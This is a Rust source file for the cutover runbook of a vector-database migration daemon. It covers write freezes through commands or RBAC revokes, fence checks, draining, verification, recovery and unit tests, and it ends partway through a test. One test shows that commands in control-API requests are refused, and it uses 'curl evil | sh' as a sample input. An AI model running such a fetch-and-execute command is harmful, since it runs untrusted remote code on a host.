//! The cutover runbook (`ferry cutover`), run inside the daemon so it survives the client.
//!
//! Steps, each reported as it goes (and in the final report with its timing):
//!
//! 1. `preconditions`: the job is STREAMING; the freeze mode has what it needs.
//! 2. `wait`: until `--at`, while the postpone flag file exists, then until lag is under
//!    `--max-lag-ms` (bounded by `--timeout`). The job goes CUTTING_OVER.
//! 3. `freeze`: `none` (writers already stopped), `command` (the operator's hook), or `rbac`
//!    (revoke Insert/Delete/Upsert of the configured roles on the source). What is needed to
//!    undo the freeze is persisted before the freeze, so a crash can be undone on restart.
//! 4. `end_position`: a timestamp allocated on the source after the freeze (the fence);
//!    the end position of each channel is its first time tick at or past it.
//! 5. `drain`: apply until every channel's applied position reaches its end position.
//! 6. `verify`: counts, or every key and row digest (`full`), via [`crate::verify`].
//! 7. `post`: indexes the target lacks; load on request.
//! 8. `fence`: the freeze held. From before the fence is taken, the log counts every insert
//!    or delete of the job's collections stamped after it (an upsert is one of each, which
//!    a count check cannot see); checked after the drain, after verify, and here, once
//!    every channel's time tick passed a second timestamp taken now. Any such write aborts
//!    the cutover, and the report names the collections and counts (`fence_breaches`).
//! 9. `done`: the job is SUCCESSFUL; the report is written (sled, and to the client).
//!
//! Any failure or abort before `done` unfreezes the source, returns the job to STREAMING
//! and reports why. The write-unavailability window is freeze start to verified.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::{Duration, Instant, SystemTime};

use serde::{Deserialize, Serialize};
use tokio::sync::{mpsc, watch};

use crate::config::JobConfig;
use crate::job::handle::{JobHandle, Live};
use crate::job::lifecycle::{now_ms, Event, JobState};
use crate::log::{FenceBreach, FenceWatch};
use crate::migrate::{self, IndexMode};
use crate::milvus::Grant;
use crate::plan::Plan;
use crate::proto::control as api;
use crate::verify::{self, VerifyMode, VerifyOptions};
use crate::wal::physical_ms;
use freeze::{restore_writes, run_command, Frozen, FROZEN_KEY, RBAC_SETTLE, WRITE_PRIVILEGES};

mod freeze;

/// Errors starting or aborting a cutover.
#[derive(Debug, thiserror::Error)]
pub enum CutoverError {
    #[error("{0}")]
    Rejected(String),
}

/// How the source's writes are stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Freeze {
    None,
    Command { freeze: String, unfreeze: Option<String> },
    Rbac { roles: Vec<String> },
}

impl Freeze {
    fn name(&self) -> &'static str {
        match self {
            Freeze::None => "none",
            Freeze::Command { .. } => "command",
            Freeze::Rbac { .. } => "rbac",
        }
    }
}

/// A validated cutover request.
#[derive(Debug, Clone)]
pub struct CutoverPlan {
    pub max_lag: Duration,
    pub timeout: Duration,
    pub freeze: Freeze,
    pub at: Option<SystemTime>,
    pub postpone_flag: Option<PathBuf>,
    pub verify: VerifyMode,
    pub dry_run: bool,
    pub load: bool,
}

impl CutoverPlan {
    /// Checks a request against the job file's `[cutover]` section. A request picks a freeze
    /// mode; the commands come from the job file only (command text in a request is refused,
    /// so whoever can call the control API cannot run commands on the daemon's host).
    pub fn from_request(req: &api::CutoverRequest, cfg: &JobConfig) -> Result<Self, CutoverError> {
        let bad = |m: String| CutoverError::Rejected(m);
        if !req.freeze_command.is_empty() || !req.unfreeze_command.is_empty() {
            return Err(bad(
                "a cutover request cannot carry freeze or unfreeze commands: they come from the daemon's job file ([cutover] freeze_command, unfreeze_command)".into(),
            ));
        }
        let freeze = match req.freeze.as_str() {
            "" | "none" => Freeze::None,
            "command" => {
                let freeze = cfg.cutover.freeze_command.clone().ok_or_else(|| {
                    bad("--freeze command needs [cutover] freeze_command in the daemon's job file".into())
                })?;
                Freeze::Command { freeze, unfreeze: cfg.cutover.unfreeze_command.clone() }
            }
            "rbac" => {
                if cfg.cutover.rbac_roles.is_empty() {
                    return Err(bad("--freeze rbac needs [cutover] rbac_roles in the job file (the source roles of the writers)".into()));
                }
                Freeze::Rbac { roles: cfg.cutover.rbac_roles.clone() }
            }
            other => return Err(bad(format!("--freeze {other:?}: must be none, command or rbac"))),
        };
        let verify = match req.verify.as_str() {
            "" | "counts" => VerifyMode::Counts,
            "full" => VerifyMode::Full,
            other => return Err(bad(format!("--verify {other:?}: must be counts or full"))),
        };
        let at = match req.at.as_str() {
            "" => None,
            s => Some(
                chrono::DateTime::parse_from_rfc3339(s)
                    .map_err(|e| bad(format!("--at {s:?}: not an RFC 3339 time ({e})")))?
                    .into(),
            ),
        };
        if let Some(at) = at {
            if at > SystemTime::now() + MAX_SCHEDULE_AHEAD {
                return Err(bad(format!("--at {:?}: more than {} days ahead", req.at, MAX_SCHEDULE_AHEAD.as_secs() / 86_400)));
            }
        }
        if req.max_lag_ms > MAX_LAG_BOUND.as_millis() as u64 {
            return Err(bad(format!("--max-lag-ms {}: at most {} (one hour)", req.max_lag_ms, MAX_LAG_BOUND.as_millis())));
        }
        if req.timeout_s > MAX_TIMEOUT.as_secs() {
            return Err(bad(format!("--timeout {}s: at most {}s (one day)", req.timeout_s, MAX_TIMEOUT.as_secs())));
        }
        if req.postpone_flag.len() > 4096 {
            return Err(bad("--postpone-flag: path longer than 4096 bytes".into()));
        }
        Ok(CutoverPlan {
            max_lag: Duration::from_millis(if req.max_lag_ms == 0 { 1000 } else { req.max_lag_ms }),
            timeout: Duration::from_secs(if req.timeout_s == 0 { 600 } else { req.timeout_s }),
            freeze,
            at,
            postpone_flag: non_empty(&req.postpone_flag).map(PathBuf::from),
            verify,
            dry_run: req.dry_run,
            load: req.load,
        })
    }
}

/// Bounds of a cutover request's durations, checked where they enter: deadlines computed
/// from them can then never overflow.
const MAX_LAG_BOUND: Duration = Duration::from_secs(3600);
const MAX_TIMEOUT: Duration = Duration::from_secs(86_400);
const MAX_SCHEDULE_AHEAD: Duration = Duration::from_secs(366 * 86_400);

fn non_empty(s: &str) -> Option<String> {
    (!s.trim().is_empty()).then(|| s.to_string())
}

/// One step in the report.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct StepReport {
    pub step: String,
    pub status: String,
    pub message: String,
    pub seconds: f64,
}

/// The cutover report (JSON in `ferry cutover --json`, status, and sled).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CutoverReport {
    pub job: String,
    /// `successful`, `aborted` or `dry_run`.
    pub outcome: String,
    /// Why it aborted.
    pub reason: Option<String>,
    pub freeze: String,
    pub started_ms: i64,
    pub finished_ms: i64,
    pub steps: Vec<StepReport>,
    /// Per channel, the source time tick (Unix ms) drained to.
    pub end_position_ms: BTreeMap<String, u64>,
    pub drain_seconds: Option<f64>,
    /// Freeze start to verified: how long the application could not write.
    pub write_unavailable_seconds: Option<f64>,
    /// The verification report (see `ferry verify --json`).
    pub verify: Option<serde_json::Value>,
    /// Per source collection, the writes stamped after the fence: writes the freeze did not
    /// stop (any aborts the cutover).
    #[serde(default)]
    pub fence_breaches: BTreeMap<String, FenceBreach>,
}

/// Starts a cutover in the background; its events arrive on the receiver (the cutover goes
/// on if the receiver is dropped).
pub fn start(job: JobHandle, req: api::CutoverRequest) -> Result<mpsc::Receiver<api::CutoverEvent>, CutoverError> {
    let live = job.live().ok_or_else(|| CutoverError::Rejected("the job has not started yet".into()))?;
    let plan = CutoverPlan::from_request(&req, &live.context.cfg)?;
    let abort = job
        .begin_cutover(&format!("pending (freeze {})", plan.freeze.name()))
        .ok_or_else(|| CutoverError::Rejected("a cutover is already pending or running (`ferry cutover --abort` stops it)".into()))?;
    let (tx, rx) = mpsc::channel(64);
    tokio::spawn(async move {
        // Releases the cutover slot however this task ends (a panic included), so a failed
        // cutover can never leave the daemon refusing every later one.
        let _slot = SlotGuard(job.clone());
        let mut run = Run::new(job.clone(), live, tx, abort);
        let report = run.execute(&plan).await;
        if !plan.dry_run {
            if let Err(e) = job.save_cutover_report(&report) {
                tracing::error!(error = %e, "cannot persist the cutover report");
            }
        }
        // The report itself waits for room: the client must get it.
        let done = Run::event("done", &report.outcome, report.reason.as_deref().unwrap_or(""), 0.0, Some(&report));
        let _ = run.tx.send(done).await;
    });
    Ok(rx)
}

/// Ends the job's cutover registration when dropped.
struct SlotGuard(JobHandle);

impl Drop for SlotGuard {
    fn drop(&mut self) {
        self.0.end_cutover();
    }
}

/// Aborts a pending or running cutover.
pub fn abort(job: &JobHandle) -> Result<(), CutoverError> {
    if job.abort_cutover() {
        Ok(())
    } else {
        Err(CutoverError::Rejected("no cutover is pending or running".into()))
    }
}

/// Verifies the running job's collections now (counts, or `full`).
pub async fn verify_now(job: &JobHandle, full: bool, sample: u32) -> Result<api::VerifyResponse, CutoverError> {
    let live = job.live().ok_or_else(|| CutoverError::Rejected("the job has not started yet".into()))?;
    let c = &live.context;
    let mut opts = VerifyOptions::new(if full { VerifyMode::Full } else { VerifyMode::Counts }, &c.cfg.copy);
    if sample > 0 {
        opts.sample = sample as usize;
    }
    let (_keep, never) = watch::channel(false);
    let report = verify::verify(&c.source, &c.target, &live.active_plan(), &opts, never)
        .await
        .map_err(|e| CutoverError::Rejected(format!("verify: {e}")))?;
    Ok(api::VerifyResponse {
        equal: report.equal,
        report_json: serde_json::to_string(&report).unwrap_or_default(),
    })
}

/// On daemon start: a cutover that died with its process is undone (source unfrozen, job
/// back to STREAMING) and the error log says so.
pub async fn recover(handle: &JobHandle, cfg: &JobConfig) {
    let frozen = handle.store().get::<Frozen>(FROZEN_KEY).ok().flatten();
    if frozen.is_none() && handle.state() != JobState::CuttingOver {
        return;
    }
    let mut msg = "a cutover was interrupted by a restart: aborted".to_string();
    if frozen.is_some() {
        match crate::migrate::connect(cfg).await {
            Ok((source, _)) => {
                if let Some(Ok(what) | Err(what)) = restore_writes(handle.store(), &source, &cfg.cutover, 3).await {
                    msg += &format!("; {what}");
                }
            }
            Err(e) => msg += &format!("; cannot reach the source to restore its writes: {e} (ferry tries again at the next cutover and daemon start)"),
        }
    }
    tracing::error!("{msg}");
    handle.record_error("", "cutover", &msg);
    if handle.state() == JobState::CuttingOver {
        if let Err(e) = handle.fire(Event::CutoverAbort) {
            tracing::error!(error = %e, "cannot return the job to STREAMING");
        }
    }
}

/// Why a step stopped the cutover.
struct Stop(String);

struct Run {
    job: JobHandle,
    live: Live,
    tx: mpsc::Sender<api::CutoverEvent>,
    abort: watch::Receiver<bool>,
    report: CutoverReport,
}

impl Run {
    fn new(job: JobHandle, live: Live, tx: mpsc::Sender<api::CutoverEvent>, abort: watch::Receiver<bool>) -> Self {
        let report = CutoverReport { job: job.name().to_string(), started_ms: now_ms(), ..Default::default() };
        Run { job, live, tx, abort, report }
    }

    fn event(step: &str, status: &str, message: &str, seconds: f64, report: Option<&CutoverReport>) -> api::CutoverEvent {
        tracing::info!(step, status, seconds, "cutover: {message}");
        api::CutoverEvent {
            step: step.into(),
            status: status.into(),
            message: message.into(),
            time_ms: now_ms(),
            seconds,
            report_json: report.map(|r| serde_json::to_string(r).unwrap_or_default()).unwrap_or_default(),
        }
    }

    /// Progress events: dropped when the client does not keep up (the report has them all).
    fn send(&self, step: &str, status: &str, message: &str, seconds: f64, report: Option<&CutoverReport>) {
        let _ = self.tx.try_send(Self::event(step, status, message, seconds, report));
    }

    fn step_done(&mut self, step: &str, status: &str, message: String, started: Instant) {
        let seconds = started.elapsed().as_secs_f64();
        self.send(step, status, &message, seconds, None);
        self.report.steps.push(StepReport { step: step.into(), status: status.into(), message, seconds });
    }

    fn aborted(&self) -> Result<(), Stop> {
        if *self.abort.borrow() {
            Err(Stop("aborted by the operator".into()))
        } else {
            Ok(())
        }
    }

    /// Sleeps up to `d`, returning early (with an error) on abort.
    async fn pause(&mut self, d: Duration) -> Result<(), Stop> {
        let mut abort = self.abort.clone();
        tokio::select! {
            _ = tokio::time::sleep(d) => {}
            _ = abort.wait_for(|v| *v) => {}
        }
        self.aborted()
    }

    async fn execute(&mut self, plan: &CutoverPlan) -> CutoverReport {
        self.report.freeze = plan.freeze.name().into();
        let result = self.steps(plan).await;
        match result {
            Ok(outcome) => self.report.outcome = outcome,
            Err(Stop(reason)) => {
                let t = Instant::now();
                let mut msg = format!("aborted: {reason}");
                // Whatever this cutover froze (recorded before freezing) is undone; a dry run
                // changes nothing, not even a freeze an earlier cutover left.
                if !plan.dry_run {
                    if let Some(Ok(what) | Err(what)) = restore_writes(self.job.store(), &self.live.context.source, &self.live.context.cfg.cutover, 3).await {
                        msg += &format!("; {what}");
                    }
                }
                if self.job.state() == JobState::CuttingOver {
                    if let Err(e) = self.job.fire(Event::CutoverAbort) {
                        msg += &format!("; {e}");
                    }
                }
                self.job.record_error("", "cutover", &msg);
                self.step_done("abort", "failed", msg, t);
                self.report.outcome = "aborted".into();
                self.report.reason = Some(reason);
            }
        }
        self.report.finished_ms = now_ms();
        self.report.clone()
    }

    /// The write grants of `roles` that reach the job's source collections (by name or `*`)
    /// in the source database: what the `rbac` freeze revokes.
    async fn write_grants(&self, roles: &[String]) -> Result<Vec<Grant>, Stop> {
        let ctx = &self.live.context;
        let names: Vec<&str> = ctx.plan.collections.iter().map(|c| c.source_name.as_str()).collect();
        let db = ctx.cfg.source.database.as_str();
        let mut revoke = Vec::new();
        for role in roles {
            let grants = ctx.source.grants(role).await.map_err(|e| Stop(format!("reading grants of role {role}: {e}")))?;
            revoke.extend(grants.into_iter().filter(|g| {
                g.object == "Collection"
                    && WRITE_PRIVILEGES.contains(&g.privilege.as_str())
                    && (g.object_name == "*" || names.contains(&g.object_name.as_str()))
                    && (g.db_name.is_empty() || g.db_name == "*" || g.db_name == db)
            }));
        }
        Ok(revoke)
    }

    /// Waits (up to 60 s) until every channel's source time tick reached `ts`: every write
    /// stamped up to `ts` is then in the log.
    async fn wait_for_ticks(&mut self, ts: u64, what: &str) -> Result<(), Stop> {
        let log = self.live.log.clone();
        let channels = self.live.active_channels();
        let deadline = Instant::now() + Duration::from_secs(60);
        while channels.iter().any(|ch| log.source_ts(ch) < ts) {
            if Instant::now() >= deadline {
                let behind: Vec<&String> = channels.iter().filter(|ch| log.source_ts(ch) < ts).collect();
                return Err(Stop(format!("no source time tick past {what} within 60 s on {behind:?} (is the WAL reader stalled?)")));
            }
            self.pause(Duration::from_millis(100)).await?;
        }
        Ok(())
    }

    /// Stops the cutover if writes of the job's collections stamped after the fence reached
    /// the log: the freeze did not hold. The report names them.
    fn check_fence(&mut self, watch: &FenceWatch) -> Result<(), Stop> {
        let breaches = watch.breaches();
        if breaches.is_empty() {
            return Ok(());
        }
        let name = |id: i64| {
            let c = self.live.context.plan.collections.iter().find(|c| c.source_id() == id);
            c.map_or_else(|| format!("collection ID {id}"), |c| c.source_name.clone())
        };
        self.report.fence_breaches = breaches.into_iter().map(|(id, b)| (name(id), b)).collect();
        Err(Stop(format!("writes got through the freeze: {}", breach_summary(&self.report.fence_breaches))))
    }

    /// Waits, up to `--timeout`, until the job's lag is within `--max-lag-ms`.
    async fn wait_for_lag(&mut self, plan: &CutoverPlan) -> Result<(), Stop> {
        let deadline = Instant::now() + plan.timeout;
        loop {
            self.aborted()?;
            let state = self.job.state();
            if state != JobState::Streaming {
                return Err(Stop(format!("the job became {state} while waiting")));
            }
            let lag = self.job.status().lag_seconds;
            if lag <= plan.max_lag.as_secs_f64() {
                return Ok(());
            }
            if Instant::now() >= deadline {
                return Err(Stop(format!(
                    "lag {lag:.2}s stayed above {:.3}s for {}s (--timeout)",
                    plan.max_lag.as_secs_f64(),
                    plan.timeout.as_secs()
                )));
            }
            self.pause(Duration::from_millis(200)).await?;
        }
    }

    /// The runbook's steps, in order (see the module doc); the outcome, or why it stopped.
    async fn steps(&mut self, plan: &CutoverPlan) -> Result<String, Stop> {
        self.preconditions(plan).await?;
        if plan.dry_run {
            self.report.reason = Some("dry run: nothing was changed".into());
            return Ok("dry_run".into());
        }
        self.wait(plan).await?;
        let freeze_started = self.freeze(plan).await?;
        let end = self.end_position().await?;
        self.drain(plan, &end).await?;
        let plan_now = self.verify(plan, &end, freeze_started).await?;
        self.post(plan, &plan_now).await?;
        self.fence(&end).await?;
        drop(end);
        self.done()
    }

    /// The job is STREAMING and no earlier freeze is left; a dry run also checks the lag
    /// bound and the grants to revoke.
    async fn preconditions(&mut self, plan: &CutoverPlan) -> Result<(), Stop> {
        let t = Instant::now();
        let state = self.job.state();
        if state != JobState::Streaming {
            return Err(Stop(format!("the job is {state}; a cutover needs STREAMING")));
        }
        // A freeze an earlier cutover could not undo is undone before anything else (and a
        // dry run only reports it).
        if self.job.store().get::<Frozen>(FROZEN_KEY).ok().flatten().is_some() {
            if plan.dry_run {
                return Err(Stop("an earlier cutover left source writes frozen and could not restore them (see `ferry errors`)".into()));
            }
            match restore_writes(self.job.store(), &self.live.context.source, &self.live.context.cfg.cutover, 1).await {
                Some(Err(what)) => return Err(Stop(format!("an earlier cutover left source writes frozen: {what}"))),
                Some(Ok(what)) => self.job.record_error("", "cutover", &format!("an earlier cutover's freeze was undone: {what}")),
                None => {}
            }
        }
        let lag = self.job.status().lag_seconds;
        let mut what = format!(
            "job STREAMING, lag {lag:.2}s (bound {:.3}s), freeze {}, verify {:?}",
            plan.max_lag.as_secs_f64(),
            plan.freeze.name(),
            plan.verify
        );
        if let Some(at) = plan.at {
            what += &format!(", at {}", chrono::DateTime::<chrono::Utc>::from(at).to_rfc3339());
        }
        if let Some(f) = &plan.postpone_flag {
            what += &format!(", postponed while {} exists", f.display());
        }
        if plan.dry_run {
            // The checks a real cutover makes before it changes anything: the lag bound
            // (waited for up to --timeout, as a real one would) and the grants to revoke.
            self.wait_for_lag(plan).await?;
            what += &format!(", lag now {:.2}s", self.job.status().lag_seconds);
            if let Freeze::Rbac { roles } = &plan.freeze {
                let n = self.write_grants(roles).await?.len();
                what += &format!(", {n} write privileges to revoke");
            }
        }
        self.step_done("preconditions", "ok", what, t);
        Ok(())
    }

    /// Waits for the time, the flag, and the lag; then the job goes CUTTING_OVER.
    async fn wait(&mut self, plan: &CutoverPlan) -> Result<(), Stop> {
        let t = Instant::now();
        if let Some(at) = plan.at {
            self.job.update_cutover(&format!("scheduled at {}", chrono::DateTime::<chrono::Utc>::from(at).to_rfc3339()));
            self.send("wait", "waiting", "until the scheduled time", 0.0, None);
            while let Ok(left) = at.duration_since(SystemTime::now()) {
                self.pause(left.min(Duration::from_secs(1))).await?;
            }
        }
        if let Some(flag) = &plan.postpone_flag {
            if flag.exists() {
                self.job.update_cutover(&format!("postponed while {} exists", flag.display()));
                self.send("wait", "waiting", &format!("postponed while {} exists", flag.display()), 0.0, None);
            }
            while flag.exists() {
                self.pause(Duration::from_secs(1)).await?;
            }
        }
        self.job.update_cutover("waiting for lag");
        self.wait_for_lag(plan).await?;
        self.job.fire(Event::CutoverStart).map_err(|e| Stop(e.to_string()))?;
        self.job.update_cutover("running");
        self.step_done("wait", "ok", format!("lag {:.2}s", self.job.status().lag_seconds), t);
        Ok(())
    }

    /// Stops the source's writes as the plan says. Returns when the freeze started: the
    /// write-unavailability window opens there.
    async fn freeze(&mut self, plan: &CutoverPlan) -> Result<Instant, Stop> {
        let t = Instant::now();
        let freeze_started = Instant::now();
        let source = self.live.context.source.clone();
        match &plan.freeze {
            Freeze::None => self.step_done("freeze", "skipped", "none: writers are already stopped".into(), t),
            Freeze::Command { freeze, unfreeze } => {
                let f = Frozen { freeze: "command".into(), unfreeze_command: unfreeze.clone(), revoked: vec![] };
                self.job.store().put(FROZEN_KEY, &f).map_err(|e| Stop(e.to_string()))?;
                run_command(freeze, "freeze", &self.live.context.cfg.cutover).await.map_err(Stop)?;
                self.step_done("freeze", "ok", "freeze command succeeded".into(), t);
            }
            Freeze::Rbac { roles } => {
                let revoke = self.write_grants(roles).await?;
                // Persisted before revoking: a crash between the two is undone on restart
                // (re-granting what is still granted is harmless).
                let f = Frozen { freeze: "rbac".into(), unfreeze_command: None, revoked: revoke.clone() };
                self.job.store().put(FROZEN_KEY, &f).map_err(|e| Stop(e.to_string()))?;
                for g in &revoke {
                    source
                        .revoke(g)
                        .await
                        .map_err(|e| Stop(format!("revoking {} {} on {}: {e}", g.role, g.privilege, g.object_name)))?;
                }
                // A write that passed its privilege check just before the revoke may still be
                // in the proxy and get a timestamp after the fence below: let it land first.
                tokio::time::sleep(RBAC_SETTLE).await;
                self.step_done("freeze", "ok", format!("revoked {} write privileges of roles {roles:?}", revoke.len()), t);
            }
        }
        Ok(freeze_started)
    }

    /// End position: the first tick of every channel at or past a timestamp taken now.
    /// The fence watch is armed first: every write stamped after the fence reaches the
    /// log after this (see `log/fence.rs`). Dropped, however the cutover ends, it disarms.
    async fn end_position(&mut self) -> Result<End, Stop> {
        let t = Instant::now();
        let watch = self.live.log.watch_fence(self.live.active_plan().collections.iter().map(|c| c.source_id()));
        let fence = self.live.context.source.alloc_timestamp().await.map_err(|e| Stop(format!("allocating the fence timestamp: {e}")))?;
        watch.set_fence(fence);
        let log = self.live.log.clone();
        let channels = self.live.active_channels();
        self.wait_for_ticks(fence, "the freeze").await?;
        let end: BTreeMap<String, u64> = channels.iter().map(|ch| (ch.clone(), log.source_ts(ch))).collect();
        self.report.end_position_ms = end.iter().map(|(c, ts)| (c.clone(), physical_ms(*ts))).collect();
        self.step_done("end_position", "ok", format!("{} channels, fence at {} ms", end.len(), physical_ms(fence)), t);
        Ok(End { watch, fence, ticks: end })
    }

    /// Applies until every channel's applied position reaches its end position.
    async fn drain(&mut self, plan: &CutoverPlan, end: &End) -> Result<(), Stop> {
        let t = Instant::now();
        if crate::failpoint::fail_once("cutover.drain") {
            return Err(Stop("failpoint cutover.drain".into()));
        }
        let log = self.live.log.clone();
        let drain_deadline = Instant::now() + plan.timeout;
        while end.ticks.iter().any(|(ch, ts)| log.applied_ts(ch) < *ts) {
            let state = self.job.state();
            if state != JobState::CuttingOver {
                return Err(Stop(format!("the job became {state} while draining")));
            }
            if Instant::now() >= drain_deadline {
                return Err(Stop(format!("not drained within {}s (--timeout)", plan.timeout.as_secs())));
            }
            self.pause(Duration::from_millis(50)).await?;
        }
        self.check_fence(&end.watch)?;
        let drain = t.elapsed().as_secs_f64();
        self.report.drain_seconds = Some(drain);
        self.step_done("drain", "ok", format!("applied up to the end position in {drain:.3}s"), t);
        Ok(())
    }

    /// Compares the target with the source (counts, or `full`); the write-unavailability
    /// window closes here. Returns the plan it verified, the one the post steps complete.
    async fn verify(&mut self, plan: &CutoverPlan, end: &End, freeze_started: Instant) -> Result<Plan, Stop> {
        let t = Instant::now();
        let ctx = self.live.context.clone();
        let opts = VerifyOptions::new(plan.verify, &ctx.cfg.copy);
        let (abort_tx, abort_rx) = watch::channel(false);
        let mut abort = self.abort.clone();
        let forward = tokio::spawn(async move {
            let _ = abort.wait_for(|v| *v).await;
            let _ = abort_tx.send(true);
        });
        let plan_now = self.live.active_plan();
        let result = verify::verify(&ctx.source, &ctx.target, &plan_now, &opts, abort_rx).await;
        forward.abort();
        let report = result.map_err(|e| Stop(format!("verification could not complete: {e}")))?;
        self.report.verify = serde_json::to_value(&report).ok();
        self.check_fence(&end.watch)?;
        if !report.equal {
            return Err(Stop(format!("verification found differences: {}", verify::summary(&report).trim())));
        }
        self.report.write_unavailable_seconds = Some(freeze_started.elapsed().as_secs_f64());
        self.step_done("verify", "ok", format!("{:?}: target equals source", plan.verify).to_lowercase(), t);
        Ok(plan_now)
    }

    /// Post steps: indexes the target lacks; load on request.
    async fn post(&mut self, plan: &CutoverPlan, plan_now: &Plan) -> Result<(), Stop> {
        let t = Instant::now();
        let target = &self.live.context.target;
        for c in &plan_now.collections {
            migrate::create_indexes(target, c, IndexMode::Copy).await.map_err(|e| Stop(e.to_string()))?;
            if plan.load {
                target
                    .load(&c.target_name, Duration::from_secs(600))
                    .await
                    .map_err(|e| Stop(format!("loading {}: {e}", c.target_name)))?;
            }
        }
        self.aborted()?;
        self.step_done("post", "ok", if plan.load { "indexes present, target loaded" } else { "indexes present" }.into(), t);
        Ok(())
    }

    /// The freeze held: every write stamped up to a timestamp taken now is in the log
    /// (each channel's tick passed it), and none of the job's collections has one after
    /// the fence.
    async fn fence(&mut self, end: &End) -> Result<(), Stop> {
        let t = Instant::now();
        let last = self.live.context.source.alloc_timestamp().await.map_err(|e| Stop(format!("allocating the closing timestamp: {e}")))?;
        self.wait_for_ticks(last, "the closing timestamp").await?;
        self.check_fence(&end.watch)?;
        let watched = physical_ms(last).saturating_sub(physical_ms(end.fence)) as f64 / 1000.0;
        self.step_done("fence", "ok", format!("no writes stamped after the fence ({watched:.3}s of WAL watched)"), t);
        Ok(())
    }

    /// Done: the source stays frozen on purpose (writers now go to the target).
    fn done(&mut self) -> Result<String, Stop> {
        self.job.fire(Event::CutoverDone).map_err(|e| Stop(e.to_string()))?;
        let _ = self.job.store().remove(FROZEN_KEY);
        Ok("successful".into())
    }
}

/// What the `end_position` step fixes for the steps after it.
struct End {
    /// Armed before the fence was taken; disarmed when dropped.
    watch: FenceWatch,
    /// The fence: a source timestamp allocated after the freeze.
    fence: u64,
    /// Per channel, the source time tick to drain to.
    ticks: BTreeMap<String, u64>,
}

/// `name: N writes (I rows inserted, D deleted) stamped after the fence; ...`.
fn breach_summary(breaches: &BTreeMap<String, FenceBreach>) -> String {
    let each: Vec<String> = breaches
        .iter()
        .map(|(name, b)| {
            format!(
                "collection {name}: {} writes stamped after the fence ({} rows inserted, {} deleted; an upsert is one of each)",
                b.writes, b.inserted_rows, b.deleted_rows
            )
        })
        .collect();
    each.join("; ")
}

/// The human rendering of a report.
pub fn render(r: &CutoverReport) -> String {
    let mut out = format!("cutover of job {}: {}\n", r.job, r.outcome.to_uppercase());
    if let Some(reason) = &r.reason {
        out += &format!("  reason: {reason}\n");
    }
    for s in &r.steps {
        out += &format!("  {:<14} {:<8} {:>8.3}s  {}\n", s.step, s.status, s.seconds, s.message);
    }
    if let Some(d) = r.drain_seconds {
        out += &format!("  drain: {d:.3}s\n");
    }
    if !r.fence_breaches.is_empty() {
        out += &format!("  writes after the fence: {}\n", breach_summary(&r.fence_breaches));
    }
    if let Some(w) = r.write_unavailable_seconds {
        out += &format!("  write-unavailability window (freeze to verified): {w:.3}s\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(extra: &str) -> JobConfig {
        let text = format!("[source]\nuri = \"http://a:1\"\n[target]\nuri = \"http://b:1\"\n[job]\nname = \"j\"\n{extra}");
        JobConfig::parse(&text, std::path::Path::new("j.toml")).unwrap()
    }

    #[test]
    fn request_defaults_and_validation() {
        let p = CutoverPlan::from_request(&api::CutoverRequest::default(), &cfg("")).unwrap();
        assert_eq!(p.freeze, Freeze::None);
        assert_eq!(p.max_lag, Duration::from_millis(1000));
        assert_eq!(p.timeout, Duration::from_secs(600));
        assert_eq!(p.verify, VerifyMode::Counts);

        let req = |f: &str| api::CutoverRequest { freeze: f.into(), ..Default::default() };
        let e = CutoverPlan::from_request(&req("command"), &cfg("")).unwrap_err().to_string();
        assert!(e.contains("[cutover] freeze_command"), "{e}");
        let e = CutoverPlan::from_request(&req("rbac"), &cfg("")).unwrap_err().to_string();
        assert!(e.contains("rbac_roles"), "{e}");
        let e = CutoverPlan::from_request(&req("stop-the-world"), &cfg("")).unwrap_err().to_string();
        assert!(e.contains("none, command or rbac"), "{e}");
        let p = CutoverPlan::from_request(&req("rbac"), &cfg("[cutover]\nrbac_roles = [\"w\"]\n")).unwrap();
        assert_eq!(p.freeze, Freeze::Rbac { roles: vec!["w".into()] });
        let p = CutoverPlan::from_request(
            &req("command"),
            &cfg("[cutover]\nfreeze_command = \"stop\"\nunfreeze_command = \"start\"\n"),
        )
        .unwrap();
        assert_eq!(p.freeze, Freeze::Command { freeze: "stop".into(), unfreeze: Some("start".into()) });

        let at = api::CutoverRequest { at: "2027-01-02T03:04:05+01:00".into(), ..Default::default() };
        let p = CutoverPlan::from_request(&at, &cfg("")).unwrap();
        let secs = p.at.unwrap().duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs();
        assert_eq!(secs, 1_798_855_445);
        let bad = api::CutoverRequest { at: "tomorrow".into(), ..Default::default() };
        assert!(CutoverPlan::from_request(&bad, &cfg("")).unwrap_err().to_string().contains("RFC 3339"));
    }

    /// Command text in a request is refused whatever the freeze mode, even when the job file
    /// has commands of its own: commands come only from the job file.
    #[test]
    fn command_text_in_a_request_is_refused() {
        let file = cfg("[cutover]\nfreeze_command = \"stop\"\nunfreeze_command = \"start\"\n");
        for (freeze, unfreeze) in [("touch /tmp/x", ""), ("", "curl evil | sh"), ("a", "b")] {
            for mode in ["command", "none", "rbac", ""] {
                let req = api::CutoverRequest {
                    freeze: mode.into(),
                    freeze_command: freeze.into(),
                    unfreeze_command: unfreeze.into(),
                    ..Default::default()
                };
                let e = CutoverPlan::from_request(&req, &file).unwrap_err().to_string();
                assert!(e.contains("cannot carry freeze or unfreeze commands"), "{e}");
            }
        }
    }

    /// Durations and times from a request are bounded where they enter, so no deadline
    /// computed from them can overflow (a huge `--timeout` used to panic the cutover task).
    #[test]
    fn request_durations_are_bounded() {
        let e = |req: api::CutoverRequest| CutoverPlan::from_request(&req, &cfg("")).unwrap_err().to_string();
        assert!(e(api::CutoverRequest { timeout_s: u64::MAX, ..Default::default() }).contains("--timeout"));
        assert!(e(api::CutoverRequest { max_lag_ms: u64::MAX, ..Default::default() }).contains("--max-lag-ms"));
        assert!(e(api::CutoverRequest { at: "9999-12-31T23:59:59Z".into(), ..Default::default() }).contains("days ahead"));
        let ok = api::CutoverRequest { timeout_s: 86_400, max_lag_ms: 3_600_000, ..Default::default() };
        let p = CutoverPlan::from_request(&ok, &cfg("")).unwrap();
        assert!(std::time::Instant::now().checked_add(p.timeout).is_some());
    }

    #[test]
    fn report_renders_steps_and_window() {
        let r = CutoverReport {
            job: "j".into(),
            outcome: "successful".into(),
            steps: vec![StepReport { step: "drain".into(), status: "ok".into(), message: "m".into(), seconds: 0.25 }],
            write_unavailable_seconds: Some(1.5),
            ..Default::default()
